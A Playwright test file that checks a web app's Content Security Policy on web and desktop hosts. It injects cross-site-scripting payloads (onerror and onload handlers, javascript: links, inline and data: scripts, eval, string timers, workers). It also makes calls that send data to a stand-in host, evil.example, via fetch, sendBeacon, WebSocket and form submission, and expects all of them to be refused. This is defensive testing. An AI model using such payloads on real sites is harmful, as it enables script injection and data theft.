import type { Page } from '@playwright/test';
import { expect, test } from '../app/test';

/** What an attack in the page came to: what the policy refused, and what went through all the same. */
interface Outcome {
  /** Directives of the policy, each with what it refused. */
  readonly refused: readonly string[];
  readonly wentThrough: readonly string[];
}

/** What the policy refuses of the attack, each once. */
const REFUSED = [
  'base-uri https://evil.example/',
  'connect-src https://evil.example/beacon',
  'connect-src https://evil.example/data',
  'connect-src https://evil.example/events',
  'connect-src wss://evil.example/',
  'form-action https://evil.example/form?',
  'frame-src https://evil.example',
  'frame-src own/',
  'img-src data',
  'img-src https://evil.example/x.png',
  'media-src https://evil.example/x.mp4',
  'object-src https://evil.example',
  'script-src eval',
  'script-src wasm-eval',
  'script-src-attr inline',
  'script-src-elem data',
  'script-src-elem https://evil.example/x.js',
  'script-src-elem inline',
  'style-src-attr inline',
  'style-src-elem https://evil.example/x.css',
  'style-src-elem inline',
  'worker-src blob',
];

/**
 * Does in the page what somebody would who got a text of theirs in as HTML, or a line of theirs into a script. It
 * runs in a task of its own: what a test evaluates itself is free of the policy.
 */
const attack = (page: Page): Promise<Outcome> =>
  page.evaluate(
    (expected) =>
      new Promise<Outcome>((resolve) => {
        const refused = new Set<string>();
        const wentThrough: string[] = [];
        Reflect.set(window, 'through', (what: string) => void wentThrough.push(what));
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
          const what = blockedURI.replace(/^(data|blob):.*/, '$1').replace(location.origin, 'own');
          refused.add(`${effectiveDirective} ${what}`);
        });
        const put = (html: string): void => document.body.insertAdjacentHTML('beforeend', html);
        const element = (name: string, attributes: Readonly<Record<string, string>>, text = ''): void => {
          const made = document.createElement(name);
          for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
          made.textContent = text;
          document.body.append(made);
        };
        const tryIt = (what: string, work: () => unknown): void => {
          try {
            Promise.resolve(work()).then(
              () => void wentThrough.push(what),
              () => undefined,
            );
          } catch {
            // Refused at once.
          }
        };
        const evil = 'https://evil.example';
        const wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);

        const attacks = (): void => {
          // Text that came in as HTML.
          put(`<img src="x" onerror="through('an error handler')">`);
          put(`<svg onload="through('a drawing')"></svg><p style="color: red" onclick="through('p')">p</p>`);
          put(`<a id="leads" href="javascript:through('an address')">x</a>`);
          document.getElementById('leads')?.click();
          element('script', {}, `through('a script')`);
          element('script', { src: `${evil}/x.js` });
          element('script', { src: 'data:text/javascript,through("data")' });
          element('style', {}, `body { background: url(${evil}/style) }`);
          element('link', { rel: 'stylesheet', href: `${evil}/x.css` });
          element('link', { rel: 'manifest', href: `${evil}/x.json` });
          // Pictures, sounds and frames.
          element('img', { src: `${evil}/x.png` });
          element('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' });
          element('video', { src: `${evil}/x.mp4` });
          element('iframe', { src: `${evil}/frame` });
          element('iframe', { src: '/' });
          element('iframe', { srcdoc: `<script>parent.through('a frame')</script>` });
          element('object', { data: `${evil}/x.swf` });
          element('embed', { src: `${evil}/x.pdf` });
          // Where the page leads and takes its addresses from.
          element('base', { href: `${evil}/` });
          const form = document.createElement('form');
          form.action = `${evil}/form`;
          document.body.append(form);
          form.submit();
          // Words that become a script.
          tryIt('eval', () => Reflect.apply(Reflect.get(window, 'eval'), window, ['1']));
          tryIt('Function', () => Reflect.construct(Function, ['return 1']));
          Reflect.apply(window.setTimeout, window, [`through('a timer')`, 0]);
          tryIt('WebAssembly', () => WebAssembly.compile(wasm));
          tryIt('a module', () => import(/* @vite-ignore */ `${evil}/${'x'}.js`));
          tryIt(
            'a made-up module',
            () => import(/* @vite-ignore */ `data:text/javascript,${'export default 1'}`),
          );
          const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
          try {
            new Worker(blob).addEventListener('message', () => void wentThrough.push('a worker'));
          } catch {
            // Refused at once.
          }
          tryIt('a service worker', () => navigator.serviceWorker.register('data:text/javascript,1'));
          // Calls to elsewhere.
          tryIt('fetch', () => fetch(`${evil}/data`, { mode: 'no-cors' }));
          navigator.sendBeacon(`${evil}/beacon`, 'x');
          try {
            new WebSocket('wss://evil.example/').addEventListener(
              'open',
              () => void wentThrough.push('a socket'),
            );
          } catch {
            // Refused at once.
          }
          new EventSource(`${evil}/events`).addEventListener('open', () => void wentThrough.push('events'));
        };
        setTimeout(attacks, 0);
        // Frames and events are refused a while later.
        const until = Date.now() + 10_000;
        const look = (): void => {
          if (refused.size < expected && Date.now() < until) setTimeout(look, 50);
          else resolve({ refused: [...refused].sort(), wentThrough });
        };
        setTimeout(look, 300);
      }),
    REFUSED.length,
  );

for (const hostName of ['web', 'desktop'] as const) {
  test.describe(`on the ${hostName} host`, () => {
    test.use({ hostName });

    test('nothing that gets into the page runs, loads or leads elsewhere', async ({ app, page, watch }) => {
      await app.open();
      await expect(page.getByRole('main')).toBeVisible();
      const before = page.url();
      const { refused, wentThrough } = await attack(page);
      expect(wentThrough).toEqual([]);
      expect(refused).toEqual(REFUSED);
      expect(page.url()).toBe(before);
      // The program itself goes on as if nothing had been.
      await page.evaluate(() => void (location.hash = '/settings'));
      const shown = (): Promise<boolean> => page.evaluate(() => document.querySelector('#app h1') !== null);
      await expect.poll(shown).toBe(true);
      // What the browser told of it is what was expected; a request that was refused never left.
      expect(watch.errors.splice(0).length).toBeGreaterThan(20);
      watch.foreignRequests.splice(0);
    });
  });
}
